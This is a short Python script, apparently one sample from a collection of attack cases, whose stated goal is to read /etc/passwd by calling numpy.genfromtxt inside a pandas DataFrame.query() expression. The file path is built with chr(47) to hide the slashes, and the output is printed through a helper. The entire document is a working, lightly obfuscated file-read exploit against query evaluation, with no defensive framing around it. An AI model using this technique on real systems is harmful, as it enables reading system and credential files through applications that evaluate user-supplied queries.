# source: pandas 1.5.3 expr.py BaseExprVisitor.visit_Call; numpy/lib/npyio.py genfromtxt
# family: DataFrame.query "(@f)(...)" call of an imported numpy reader with a run-time path
# goal: reads /etc/passwd with numpy.genfromtxt called inside query()
import pandas as pd
import numpy as np
from numpy import genfromtxt
df = pd.DataFrame({"a": [1, 2, 3]})
p = chr(47) + "etc" + chr(47) + "passwd"
s = "U64"
none = None
colon = ":"


def show(x):
    print(x[:5])
    return 0


df.query("a > (@show)((@genfromtxt)(@p, @s, @none, @colon))")
